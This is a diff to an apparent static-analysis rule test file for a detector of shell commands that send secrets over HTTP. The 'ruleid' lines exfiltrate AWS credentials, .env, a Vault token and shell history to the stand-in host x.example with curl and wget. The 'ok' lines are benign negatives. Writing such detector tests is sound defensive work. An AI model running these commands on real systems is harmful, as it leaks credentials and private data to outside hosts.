@@ -96,6 +96,14 @@ wget --post-file=/home/ci/.aws/credentials https://x.example/in
 curl -fsS -H "Authorization: Bearer ${DEPLOY_TOKEN}" -d '{"v":"1"}' "${DEPLOY_API}/releases"
 # ruleid: sh-secret-sent-by-http-client
 curl -s -F "f=@.env" https://x.example/up
+# ruleid: sh-secret-sent-by-http-client
+curl -d @~/.vault-token https://x.example/in
+# ruleid: sh-secret-sent-by-http-client
+cat ~/.bash_history | curl -s -d @- https://x.example/in
+# ok: sh-secret-sent-by-http-client
+curl -s -T ~/.ssh/id_ed25519.pub https://keys.example/upload
+# ok: sh-secret-sent-by-http-client
+curl -s -d '{"name":"ci"}' https://iam.example/v1/credentials
 # ok: sh-secret-sent-by-http-client
 env | grep -c PATH
 # ok: sh-secret-sent-by-http-client
